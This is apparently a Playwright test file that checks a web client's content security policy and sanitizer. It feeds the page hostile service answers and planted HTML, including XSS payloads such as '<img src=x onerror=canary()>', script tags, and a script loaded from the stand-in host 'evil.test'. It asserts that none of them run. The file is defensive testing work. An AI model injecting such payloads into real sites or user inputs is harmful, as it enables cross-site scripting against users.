"""The policy and the sanitizer in the page itself: hostile answers, planted scripts and styles do nothing."""

import json

from playwright.sync_api import Route, expect

from browser.hostile_answers import HOSTILE_ANSWERS
from browser.web_client.client_page import ClientPage
from browser.web_client.scripted_aws import USER_ID
from browser.web_client.scripted_service import ScriptedService
from browser.web_client.stored_job import answered, completed, started, working

# Clicks that leave nothing untouched, within an answer.
TOUCH = """() => {
  for (const element of document.querySelectorAll('main *')) {
    for (const kind of ['mouseover', 'pointerdown', 'focus', 'error', 'load', 'toggle', 'animationstart', 'begin']) {
      element.dispatchEvent(new Event(kind));
    }
  }
}"""
# What somebody has got into the page that is sent.
PLANTED_HTML = """<script>canary()</script><img src="x" onerror="canary()">
<style>body { outline: 7px solid red }</style><p id="planted" style="outline: 7px solid red">x</p></body>"""
# What a script that runs already cannot do.
PLANT = """() => {
  const attempts = [
    () => { document.createElement('script').text = 'canary()'; },
    () => { document.createElement('script').src = 'https://evil.test/x.js'; },
    () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=canary()>'); },
    () => { document.body.innerHTML += ''; },
  ];
  return attempts.map((attempt) => { try { attempt(); } catch (error) { return error.name; } return 'done'; });
}"""


def test_hostile_answers_do_no_harm_in_the_page(page: ClientPage, service: ScriptedService) -> None:
    outside: list[str] = []
    ours = page.address.rpartition(":")[2]
    page.page.on("request", lambda request: outside.append(request.url) if ours not in request.url else None)
    page.context.on("page", lambda tab: outside.append(f"window {tab.url}"))
    names = list(HOSTILE_ANSWERS)
    # Lone surrogates are no JSON that a service sends.
    texts = [text.encode("utf-16", "surrogatepass").decode("utf-16", "replace") for text in HOSTILE_ANSWERS.values()]
    for begin in range(0, len(names), 12):
        some = "\n\n***\n\n".join(texts[begin : begin + 12])
        job = service.add(
            f"Hostile {begin}",
            *(working(), started, answered(0, some, title="<img src=x onerror=canary()>")),
            *(answered(1, texts[begin]), completed),
            user=USER_ID,
        )
        page.page.goto(f"{page.address}/#/jobs/{job.job_id}")
        expect(page.heading).to_have_text(f"Hostile {begin}")
        page.page.evaluate(TOUCH)
        assert (
            page.page.evaluate("document.querySelectorAll('main :is(script, iframe, img, form, object)').length") == 0
        )
        assert (
            page.main.get_by_role("link").evaluate_all(
                "links => links.map((link) => link.href)"
                ".filter((href) => !href.startsWith('https://') && !href.startsWith(location.origin))"
            )
            == []
        )
    assert page.seen()["canaryCalls"] == 0
    assert [url for url in outside if "evil.test" in url or url.startswith("window")] == []


def test_what_is_planted_in_the_page_does_nothing(page: ClientPage, service: ScriptedService) -> None:
    def planted(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</body>", PLANTED_HTML))

    page.page.route(f"{page.address}/", planted)
    page.page.goto(f"{page.address}/")
    page.page.reload()
    expect(page.box).to_be_visible()
    expect(page.page.locator("#planted")).to_have_css("outline-style", "none")
    expect(page.page.locator("body")).to_have_css("outline-style", "none")
    assert page.page.evaluate(PLANT) == ["TypeError"] * 4
    seen = page.seen()
    assert seen["canaryCalls"] == 0
    assert {violation.split()[0] for violation in seen["violations"]} == {
        *("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "require-trusted-types-for")
    }
    # These were ours: see the fixture of the page.
    page.page.evaluate("seen.violations.splice(0)")
    page.console.clear()


def test_hostile_words_of_the_service_are_shown_as_they_are(page: ClientPage, service: ScriptedService) -> None:
    attack = "<img src=x onerror=canary()>"
    cell = {"title": attack, "columns": [{"key": "a", "label": attack, "type": "text"}], "rows": [{"a": attack}]}
    service.plays = (working(attack), started, answered(0, "x", data=[cell]), answered(1, "y", title=attack), completed)
    page.ask(attack)
    expect(page.heading).to_have_text(attack)
    expect(page.main.get_by_role("rowheader", name=attack)).to_be_visible()
    assert json.loads(page.page.evaluate("JSON.stringify(seen.canaryCalls)")) == 0
